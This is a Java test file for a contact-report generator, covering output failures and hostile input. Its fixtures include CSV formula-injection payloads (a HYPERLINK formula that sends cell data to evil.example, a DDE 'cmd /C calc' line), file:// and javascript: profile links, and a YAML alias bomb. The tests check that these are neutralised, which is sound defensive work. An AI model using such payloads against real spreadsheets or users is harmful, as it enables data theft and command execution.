package de.kontaktcharta.corpus;

import static de.kontaktcharta.corpus.CorpusCase.direct;
import static de.kontaktcharta.corpus.CorpusCase.run;
import static de.kontaktcharta.corpus.CorpusCase.textInput;
import static de.kontaktcharta.corpus.Exports.connection;
import static de.kontaktcharta.corpus.Exports.connections;
import static de.kontaktcharta.corpus.FileSystemCases.ONE_CONNECTION;
import static de.kontaktcharta.corpus.Workspace.arg;
import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import de.kontaktcharta.report.ReportFiles;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.ss.usermodel.WorkbookFactory;
import org.junit.jupiter.api.Assumptions;

/**
 * Where the report goes: folders that cannot be written, a disk that fills up, a name already
 * taken, and cell text that a spreadsheet would run.
 */
final class OutputCases {

  private static final String PAYLOADS =
      connections(
          "=HYPERLINK(\"http://evil.example/?\"&A1;\"klick\"),Berg,,,+cmd|' /C calc'!A0,"
              + "@SUM(1+1),16 Dec 2024",
          "-2+3,Kurz,,,\"\tx=1\",\"\r=1+1\",16 Dec 2024");

  private OutputCases() {}

  static List<CorpusCase> all() {
    return List.of(
        run(
            "output-folder-is-a-file",
            w -> {
              w.outTo(w.text("reports", "not a folder").resolve("sub"));
              return List.of(arg(w.text("Connections.csv", ONE_CONNECTION)));
            },
            Expected.exit(4)
                .check(
                    o ->
                        assertTrue(
                            o.stderr().startsWith("error: could not write the report "),
                            o.stderr()))),
        run(
            "output-folder-not-writable",
            w -> {
              // even root cannot create files in /proc; elsewhere the case has nothing to test
              Path proc = Path.of("/proc/self");
              Assumptions.assumeTrue(Files.isDirectory(proc), "no /proc here");
              w.outTo(proc);
              return List.of(arg(w.text("Connections.csv", ONE_CONNECTION)));
            },
            Expected.exit(4)
                .check(
                    o -> assertTrue(o.stderr().startsWith("error: could not write"), o.stderr()))),
        direct("disk-full-while-writing", OutputCases::diskFull),
        direct("failing-writer-leaves-nothing-half-written", OutputCases::failingWriter),
        direct("out-of-memory", OutputCases::outOfMemory),
        run(
            "report-name-already-taken",
            w -> {
              List<String> inputs = List.of(arg(w.text("Connections.csv", ONE_CONNECTION)));
              Outcome first = CorpusRunner.analyse(w, inputs);
              assertEquals(0, first.exit(), first::describe);
              Path report = first.report();
              Files.copy(report, w.path("first-copy.xlsx"));
              return inputs;
            },
            Expected.exit(0)
                .check(
                    o -> {
                      assertTrue(o.report().getFileName().toString().matches(".*-2\\.xlsx"));
                      Path first =
                          o.report()
                              .resolveSibling(
                                  o.report().getFileName().toString().replace("-2.xlsx", ".xlsx"));
                      assertArrayEquals(
                          Files.readAllBytes(o.workspace().path("first-copy.xlsx")),
                          Files.readAllBytes(first),
                          "the earlier report is untouched");
                    })),
        run(
            "formula-injection-in-the-csv-report",
            w -> List.of("--format", "xlsx,csv,json", arg(w.text("Connections.csv", PAYLOADS))),
            Expected.exit(0).rows("Connections.csv", 2, 2, 0).check(OutputCases::neutralised)),
        run(
            "profile-links-with-hostile-schemes",
            textInput(
                "Connections.csv",
                connections(
                    "Anna,Berg,file://evil.example/share/setup.exe,,,,16 Dec 2024",
                    "Ben,Kurz,javascript://www.linkedin.com/in/x%0Aalert(1),,,,16 Dec 2024",
                    "Carl,Dorn,smb://www.linkedin.com/in/carl,,,,16 Dec 2024",
                    "Dora,Ernst,https://www.linkedin.com/in/dora-ernst,,,,16 Dec 2024")),
            Expected.exit(0).rows("Connections.csv", 4, 4, 0).check(OutputCases::onlyWebLinks)),
        run(
            "charter-with-a-yaml-alias-bomb",
            w -> {
              StringBuilder yaml =
                  new StringBuilder("title: Bombe\na: &a [\"x\",\"x\",\"x\",\"x\"]\n");
              char previous = 'a';
              for (char c = 'b'; c <= 'k'; c++) {
                yaml.append(c).append(": &").append(c).append(" [");
                yaml.append(String.join(",", java.util.Collections.nCopies(9, "*" + previous)));
                yaml.append("]\n");
                previous = c;
              }
              Path charter = w.text("charta.yaml", yaml.toString());
              return List.of(
                  "--charter", arg(charter), arg(w.text("Connections.csv", ONE_CONNECTION)));
            },
            Expected.exit(2)
                .check(o -> assertTrue(o.stderr().contains("charta.yaml:"), o.stderr()))),
        run(
            "reasons-ledger-is-a-folder",
            w -> {
              w.folder("out/reasons.csv");
              return List.of(arg(w.text("Connections.csv", ONE_CONNECTION)));
            },
            Expected.exit(3)
                .problem("reasons.csv", "ledger-unreadable")
                .check(o -> assertTrue(o.stderr().contains("(a folder, not a file)"), o.stderr()))
                .check(
                    o ->
                        assertTrue(
                            Files.isDirectory(o.workspace().out().resolve("reasons.csv"))))));
  }

  /** No CSV cell starts a formula; the workbook holds the payloads as text, not as formulas. */
  private static void neutralised(Outcome o) throws IOException {
    for (String entry : List.of("contacts.csv", "no_reason.csv", "summary.csv")) {
      for (String cell : CsvReport.cells(o, entry)) {
        assertFalse(
            !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0,
            () -> entry + ": a cell starts a formula: " + cell);
      }
    }
    assertTrue(
        CsvReport.cells(o, "contacts.csv").stream().anyMatch(c -> c.startsWith("'=HYPERLINK")),
        "the text is kept, behind an apostrophe");
    try (Workbook book = WorkbookFactory.create(o.report().toFile(), null, true)) {
      for (Sheet sheet : book) {
        for (Row row : sheet) {
          for (Cell cell : row) {
            assertTrue(
                cell.getCellType() != CellType.FORMULA, "no formula in " + sheet.getSheetName());
          }
        }
      }
    }
    assertTrue(
        o.contacts().stream().anyMatch(c -> c.get("Name").startsWith("=HYPERLINK(")),
        "the payload is shown as text");
  }

  /** Every hyperlink in the workbook goes to a web page; the other addresses stay text. */
  private static void onlyWebLinks(Outcome o) throws IOException {
    List<String> links = new ArrayList<>();
    try (Workbook book = WorkbookFactory.create(o.report().toFile(), null, true)) {
      for (Sheet sheet : book) {
        for (Row row : sheet) {
          for (Cell cell : row) {
            // the Summary's links to the report's own sheets lead nowhere outside it
            if (cell.getHyperlink() != null
                && cell.getHyperlink().getType()
                    != org.apache.poi.common.usermodel.HyperlinkType.DOCUMENT) {
              links.add(cell.getHyperlink().getAddress());
            }
          }
        }
      }
    }
    assertTrue(links.contains("https://www.linkedin.com/in/dora-ernst"), links::toString);
    assertTrue(links.stream().allMatch(l -> l.startsWith("https://")), links::toString);
    assertTrue(
        o.contacts().stream().anyMatch(c -> c.get("Profile").startsWith("file://evil.example")),
        "shown as text");
  }

  /**
   * A real disk-full error: the run happens in a child process whose file size limit ({@code ulimit
   * -f}) is smaller than the report, so writing fails with "File too large" half-way. The earlier
   * report and the reasons ledger must be as they were, with nothing half-written beside them.
   */
  private static void diskFull(Workspace w) throws Exception {
    List<String> inputs =
        List.of(arg(w.text("Connections.csv", connections(connection("Anna", "Berg", "ACME")))));
    Outcome first = CorpusRunner.analyse(w, inputs);
    assertEquals(0, first.exit(), first::describe);
    Path ledger =
        Files.writeString(
            w.out().resolve("reasons.csv"),
            "Contact ID,Key,Name,Reason,Decision,Note,Recorded\r\nC-1,,Anna Berg,MET,KEEP,,2026-01-02\r\n",
            StandardCharsets.UTF_8);
    byte[] report = Files.readAllBytes(first.report());
    byte[] ledgerBytes = Files.readAllBytes(ledger);
    Set<String> before = CorpusRunner.listing(w.out());

    ChildRun child = ChildRun.analyse(w, 8, "", inputs);
    String output = child.output();
    assertEquals(4, child.exit(), output);
    assertTrue(output.startsWith("error: could not write the report"), output);
    assertEquals(1, output.lines().count(), () -> "one line, no library log: " + output);
    assertEquals(before, CorpusRunner.listing(w.out()), "no partial report, no .part, no .bak");
    assertArrayEquals(report, Files.readAllBytes(first.report()), "the old report is untouched");
    assertArrayEquals(ledgerBytes, Files.readAllBytes(ledger), "the ledger is untouched");
  }

  /**
   * A network too large for the heap: the run must end with one line and the report exit code, not
   * with the JVM's stack trace and exit code 1 (which means "--fail-on matched").
   */
  private static void outOfMemory(Workspace w) throws Exception {
    StringBuilder rows = new StringBuilder();
    for (int i = 0; i < 20_000; i++) {
      rows.append(connection("Vorname" + i, "Nachname" + i, "Firma " + i)).append('\n');
    }
    List<String> inputs = List.of(arg(w.text("Connections.csv", connections() + rows)));
    ChildRun child = ChildRun.analyse(w, 0, "24m", inputs);
    assertEquals(4, child.exit(), child.output());
    assertTrue(child.output().startsWith("error: out of memory;"), child.output());
    assertEquals(1, child.output().lines().count(), child.output());
    assertEquals(Set.of(), CorpusRunner.listing(w.out()), "nothing written, nothing half-written");
  }

  /** A writer failing half-way through the report and through the ledger, via the content seam. */
  private static void failingWriter(Workspace w) throws IOException {
    Path out = w.folder("out");
    LocalDate day = LocalDate.of(2026, 11, 20);
    Path old =
        ReportFiles.writeNew(ReportFiles.freeName(out, day, "xlsx"), day, "xlsx", s -> s.write(7));
    Path ledger = Files.writeString(out.resolve("reasons.csv"), "old ledger");
    IOException failure = new IOException("No space left on device");
    ReportFiles.Content failing =
        s -> {
          s.write(new byte[64 << 10]);
          throw failure;
        };
    assertEquals(
        failure,
        assertThrows(
            IOException.class,
            () ->
                ReportFiles.writeNew(
                    ReportFiles.freeName(out, day, "xlsx"), day, "xlsx", failing)));
    assertEquals(
        failure, assertThrows(IOException.class, () -> ReportFiles.replace(ledger, failing)));
    assertEquals(Set.of(old.getFileName().toString(), "reasons.csv"), CorpusRunner.listing(out));
    assertArrayEquals(new byte[] {7}, Files.readAllBytes(old));
    assertEquals("old ledger", Files.readString(ledger));
  }
}
